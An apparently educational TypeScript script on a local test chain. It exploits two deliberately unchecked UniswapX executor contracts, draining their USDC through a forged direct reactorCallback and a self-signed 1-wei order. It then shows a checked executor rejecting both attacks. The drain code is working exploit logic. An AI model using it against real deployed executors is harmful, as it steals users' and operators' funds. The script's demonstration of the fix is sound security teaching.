import assert from 'node:assert/strict';
import {parseAbi, parseUnits, zeroAddress, zeroHash, type Address} from 'viem';
import {transfer} from '../reverts/v2/support/v2';
import {printFailure} from '../sdk/support/printFailure';
import {clientOf, confirm, run} from '../support/chain';
import {deploy} from '../support/contract';
import {balance, show, usdc, weth} from '../v3/flash/support/market';
import {setTime, startTime} from './support/clock';
import {approve, deployExecutor, executorAbi, permit2, reactor} from './support/contracts';
import {draftOrder, signOrder, walletOf} from './support/order';

const file = 'examples/uniswapx/UncheckedExecutors.sol';
const tokenAbi = parseAbi([
  'function transferFrom(address from, address to, uint256 amount) returns (bool)',
]);
const starterAbi = parseAbi([
  'struct SignedOrder { bytes order; bytes sig; }',
  'function fill(SignedOrder order)',
]);
const stakeUsdc = parseUnits('1000', 6);
const attacker = clientOf(9);
const thief = attacker.account.address;

const showStake = async (name: string, executor: Address) =>
  console.log(
    `${name.padEnd(20)}${show(stakeUsdc, usdc)} → ${show(await balance(usdc, executor), usdc)}`,
  );

run(async () => {
  const trustsAnybody = await deploy({file, contract: 'TrustsAnybody'});
  const trustsEveryStarter = await deploy({file, contract: 'TrustsEveryStarter'}, [
    reactor.address,
  ]);
  const checked = await deployExecutor();
  for (const target of [trustsAnybody, trustsEveryStarter, checked.address]) {
    await transfer(usdc.address, target, stakeUsdc);
  }
  await setTime(startTime);

  // #region direct
  // No reactor takes part: the attacker says that an order is due, and becomes its payee.
  const info = {
    reactor: reactor.address,
    swapper: thief,
    nonce: 0n,
    deadline: BigInt(startTime + 600),
    additionalValidationContract: zeroAddress,
    additionalValidationData: '0x',
  } as const;
  const forged = {
    info,
    input: {token: weth.address, amount: 1n, maxAmount: 1n},
    outputs: [{token: usdc.address, amount: stakeUsdc, recipient: thief}],
    sig: '0x',
    hash: zeroHash,
  } as const;
  const callback = {
    abi: executorAbi,
    functionName: 'reactorCallback',
    args: [[forged], '0x'],
  } as const;
  await confirm(await attacker.writeContract({...callback, address: trustsAnybody}));
  await confirm(
    await attacker.writeContract({
      address: usdc.address,
      abi: tokenAbi,
      functionName: 'transferFrom',
      args: [trustsAnybody, thief, stakeUsdc],
    }),
  );
  // #endregion direct
  await showStake('no check', trustsAnybody);

  // #region own-order
  // The genuine reactor settles the attacker's own order: 1 wei of WETH for all the USDC.
  const wallet = walletOf(9);
  await approve(attacker, {token: weth.address, spender: permit2.address, amount: 1n});
  const amounts = {input: 1n, start: stakeUsdc, end: stakeUsdc};
  const order = (await draftOrder(wallet, startTime, amounts)).build();
  const signed = await signOrder(order, wallet);
  await confirm(
    await attacker.writeContract({
      address: trustsEveryStarter,
      abi: starterAbi,
      functionName: 'fill',
      args: [signed],
    }),
  );
  // #endregion own-order
  await showStake('anybody may start', trustsEveryStarter);

  // #region checked
  await printFailure('calls it directly', () =>
    attacker.simulateContract({...callback, address: checked.address}),
  );
  await printFailure('starts an order of its own', () =>
    attacker.simulateContract({
      ...checked,
      functionName: 'fill',
      args: [signed, {feePips: 500, profitMin: 1n}],
    }),
  );
  // #endregion checked
  assert.equal(await balance(usdc, checked.address), stakeUsdc);
  await showStake('both checks', checked.address);
});
